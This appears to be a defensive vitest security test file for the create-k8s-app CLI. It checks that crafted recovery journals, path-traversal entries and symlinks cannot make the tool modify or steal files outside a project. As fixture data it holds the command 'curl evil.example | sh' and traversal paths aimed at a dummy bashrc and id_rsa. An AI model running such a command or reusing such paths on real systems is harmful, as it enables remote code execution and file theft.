// A project is untrusted input: a crafted record of an interrupted run, replayed by `upgrade` or
// `--force`, must not write, move or delete anything outside the project, follow a link, or touch
// a path the generator does not produce.
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { runCli, type CliResult } from '../support/cli.js';
import { tempRoot } from '../support/project.js';
import { generatedProject } from './support.js';
import { snapshot } from './processes.js';

const root = tempRoot('ck8s-journal-');
afterAll(() => root.cleanup());

const sha = (text: string | Buffer) => createHash('sha256').update(text).digest('hex');
const RUN = '.create-k8s-app/run';

/** A generated project beside a victim folder, in a fresh case folder. */
function setup(): { cwd: string; project: string; victim: string } {
  const { cwd, project } = generatedProject(root);
  const victim = join(cwd, 'victim');
  mkdirSync(victim);
  writeFileSync(join(victim, 'bashrc'), 'export PATH=/usr/bin\n');
  writeFileSync(join(victim, 'id_rsa'), 'PRIVATE KEY\n');
  writeFileSync(join(victim, 'notes'), 'my notes\n');
  return { cwd, project, victim };
}

/** Plants a journal in the place and format the writer uses, with backups by entry index. */
function plant(project: string, journal: unknown, backups: Record<number, string> = {}): void {
  mkdirSync(join(project, RUN, 'backup'), { recursive: true });
  for (const [i, content] of Object.entries(backups)) writeFileSync(join(project, RUN, 'backup', i), content);
  writeFileSync(join(project, RUN, 'journal.json'), typeof journal === 'string' ? journal : JSON.stringify(journal));
}

function expectRefused(r: CliResult, mentions: string): void {
  expect(r.code, r.stderr).toBe(2);
  const lines = r.stderr.trim().split('\n');
  expect(lines, r.stderr).toHaveLength(2);
  expect(lines[0]).toMatch(/^error: \.create-k8s-app\/run\/journal\.json is not a journal create-k8s-app wrote \(.*\); nothing was changed$/);
  expect(lines[0]).toContain(mentions);
  expect(lines[1]).toBe('hint: if no create-k8s-app run is in progress, delete .create-k8s-app/run and run again');
}

const COMMANDS = { upgrade: ['upgrade', 'demo'], force: ['demo', '--yes', '--force', '--no-lint'] };

describe('the journal layout of the first releases', () => {
  // Entries named a path, a temp file and a backup, and were obeyed as they stood.
  for (const [name, command] of Object.entries(COMMANDS)) {
    it(`is never read: ${name} touches nothing outside the project`, () => {
      const { cwd, project, victim } = setup();
      const before = snapshot(victim);
      const dir = join(project, '.create-k8s-app', 'journal');
      mkdirSync(dir, { recursive: true });
      writeFileSync(join(dir, '0'), 'curl evil.example | sh\n');
      const entries = [
        { path: '../victim/bashrc', temp: null, backup: '.create-k8s-app/journal/0' },
        { path: 'stolen_id_rsa', temp: null, backup: '../victim/id_rsa' },
        { path: '../victim/notes', temp: null, backup: null },
      ];
      writeFileSync(join(dir, 'journal.json'), JSON.stringify({ entries, createdDirs: ['../victim'] }));
      const r = runCli(command, { cwd });
      expect(r.code, r.stderr).toBe(0);
      expect(snapshot(victim)).toEqual(before);
      expect(readdirSync(project)).not.toContain('stolen_id_rsa');
    });
  }
});

describe('a crafted journal', () => {
  for (const [name, command] of Object.entries(COMMANDS)) {
    it(`with a path outside the project is refused whole by ${name}`, () => {
      const { cwd, project, victim } = setup();
      const before = snapshot(victim);
      const readme = readFileSync(join(project, 'README.md'));
      plant(project, {
        format: 2,
        entries: [
          // a harmless-looking first entry, so that a writer acting entry by entry would act
          { path: 'README.md', before: sha('x'), after: sha(readme) },
          { path: '../victim/bashrc', before: sha('curl evil.example | sh\n'), after: sha('export PATH=/usr/bin\n') },
          { path: '../victim/notes', before: null, after: sha('my notes\n') },
        ],
        dirs: [],
      }, { 0: 'x', 1: 'curl evil.example | sh\n' });
      const projectBefore = snapshot(project);
      expectRefused(runCli(command, { cwd }), '"../victim/bashrc" is not a path create-k8s-app writes');
      expect(snapshot(victim)).toEqual(before);
      expect(snapshot(project)).toEqual(projectBefore);
    });
  }

  it('with an absolute path, or a folder outside, is refused', () => {
    const { cwd, project, victim } = setup();
    const before = snapshot(victim);
    plant(project, { format: 2, entries: [{ path: join(victim, 'notes'), before: null, after: sha('my notes\n') }], dirs: [] });
    expectRefused(runCli(COMMANDS.upgrade, { cwd }), 'is not a path create-k8s-app writes');
    plant(project, { format: 2, entries: [{ path: 'chart/values.yaml', before: null, after: sha('x') }], dirs: ['../victim'] });
    expectRefused(runCli(COMMANDS.upgrade, { cwd }), '"../victim" is not a folder of a listed file');
    expect(snapshot(victim)).toEqual(before);
  });

  it('naming .git/ or a file of the user\'s, with its exact bytes, is refused: neither is deleted', () => {
    const { cwd, project } = setup();
    mkdirSync(join(project, '.git'));
    writeFileSync(join(project, '.git', 'HEAD'), 'ref: refs/heads/main\n');
    mkdirSync(join(project, 'src'));
    writeFileSync(join(project, 'src', 'main.go'), 'package main\n');
    for (const path of ['.git/HEAD', 'src/main.go', 'chart/.git/config', '.create-k8s-app/run/lock']) {
      const content = path === '.git/HEAD' ? 'ref: refs/heads/main\n' : 'package main\n';
      plant(project, { format: 2, entries: [{ path, before: null, after: sha(content) }], dirs: [] });
      expectRefused(runCli(COMMANDS.upgrade, { cwd }), 'is not a path create-k8s-app writes');
    }
    expect(readFileSync(join(project, '.git', 'HEAD'), 'utf8')).toBe('ref: refs/heads/main\n');
    expect(readFileSync(join(project, 'src', 'main.go'), 'utf8')).toBe('package main\n');
  });

  it('whose backup is a link to a file outside does not move that file in', () => {
    const { cwd, project, victim } = setup();
    const before = snapshot(victim);
    const values = readFileSync(join(project, 'chart', 'values.yaml'));
    plant(project, { format: 2, entries: [{ path: 'chart/values.yaml', before: sha('PRIVATE KEY\n'), after: sha(values) }], dirs: [] });
    symlinkSync(join(victim, 'id_rsa'), join(project, RUN, 'backup', '0'));
    const r = runCli(COMMANDS.upgrade, { cwd });
    expect(r.code, r.stderr).toBe(2);
    expect(r.stderr).toMatch(/^error: \.create-k8s-app\/run\/backup\/0 is a symbolic link; create-k8s-app does not follow links inside a project\n/);
    expect(snapshot(victim)).toEqual(before);
    expect(readFileSync(join(project, 'chart', 'values.yaml'))).toEqual(values);
  });

  it('acts only on files holding exactly what it says was written, and only from backups holding what it says was there', () => {
    const { cwd, project } = setup();
    const readme = readFileSync(join(project, 'README.md'), 'utf8');
    const values = readFileSync(join(project, 'chart', 'values.yaml'), 'utf8');
    plant(project, {
      format: 2,
      entries: [
        // the file holds other bytes than "written": left as found
        { path: 'README.md', before: sha('# old\n'), after: sha('# something else\n') },
        // the backup does not hold what "was there": left as found
        { path: 'chart/values.yaml', before: sha('replicas: 99\n'), after: sha(values) },
      ],
      dirs: [],
    }, { 0: '# old\n', 1: 'replicas: 1\n' });
    const r = runCli(COMMANDS.upgrade, { cwd });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout.split('\n')[1]).toBe('an earlier run was interrupted while writing: put 0 file(s) back as they were before it; left README.md, chart/values.yaml as found (changed since)');
    expect(readFileSync(join(project, 'README.md'), 'utf8')).toBe(readme);
    expect(readFileSync(join(project, 'chart', 'values.yaml'), 'utf8')).toBe(values);
    expect(existsSync(join(project, RUN))).toBe(false);
  });

  it('that is not JSON gives one line and a hint, and the run after removing it succeeds', () => {
    const { cwd, project } = setup();
    plant(project, '{"format":2,"entries":[');
    for (const command of Object.values(COMMANDS)) expectRefused(runCli(command, { cwd }), 'not valid JSON');
    // read-only runs report it too, as a run left behind
    const check = runCli(['upgrade', '--check', 'demo'], { cwd });
    expect(check.code).toBe(1);
    rmSync(join(project, RUN), { recursive: true });
    const r = runCli(COMMANDS.upgrade, { cwd });
    expect(r.code, r.stderr).toBe(0);
  });
});

describe('the state folder as a link', () => {
  for (const [name, command] of Object.entries(COMMANDS)) {
    it(`.create-k8s-app/run pointing outside is refused by ${name}, and nothing there is touched`, () => {
      const { cwd, project, victim } = setup();
      mkdirSync(join(victim, 'journal'));
      writeFileSync(join(victim, 'journal', 'keep'), 'keep\n');
      writeFileSync(join(victim, 'lock'), 'not a lock\n');
      const before = snapshot(victim);
      symlinkSync(victim, join(project, RUN));
      const r = runCli(command, { cwd });
      expect(r.code, r.stderr).toBe(2);
      expect(r.stderr.split('\n')[0]).toBe('error: .create-k8s-app/run is a symbolic link; create-k8s-app does not follow links inside a project');
      expect(snapshot(victim)).toEqual(before);
    });
  }
});
